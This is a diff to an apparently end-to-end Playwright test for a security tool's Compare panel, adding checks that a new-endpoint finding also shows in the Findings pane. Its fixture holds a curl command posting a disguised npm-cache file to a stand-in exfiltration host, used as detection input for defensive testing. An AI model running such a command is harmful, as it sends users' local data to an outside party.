@@ -9,6 +9,8 @@ import { runCases, type RunCase } from '../support/run-cases';
 import { apiFromPage, openApp, shot, watchPage } from './support/app';
 import { startServeProcess } from './support/serve-process';
 
+test.use({ viewport: { width: 1280, height: 720 } });
+
 const CURL = { exe: '/usr/bin/curl', args: ['curl', '-sS', '-X', 'POST', '--data-binary', '@/tmp/.npm-cache-8f3a.json', 'https://telemetry.exfil.example/v2/collect'] };
 
 test('Compare panel: new endpoint, new process, changed commit; the endpoint is a finding', async ({ page }) => {
@@ -36,6 +38,12 @@ test('Compare panel: new endpoint, new process, changed commit; the endpoint is 
     const f = await apiFromPage<Result<'findings.list'>>(page, 'findings.list');
     expect(f.findings.filter((x) => x.kind === 'new-endpoint-vs-baseline').map((x) => x.endpoint)).toEqual(['telemetry.exfil.example:443']);
     await shot(page, 'compare-panel');
+    // Shown like every other finding: in the Findings pane too.
+    await page.getByRole('tab', { name: 'Findings' }).click();
+    const list = page.getByRole('list', { name: 'Findings, most severe first' });
+    await expect(list).toContainText('telemetry.exfil.example:443');
+    await expect(list).toContainText(/new endpoint against the baseline/i);
+    await shot(page, 'compare-findings-pane');
     w.check();
   } finally {
     await serve.stop();
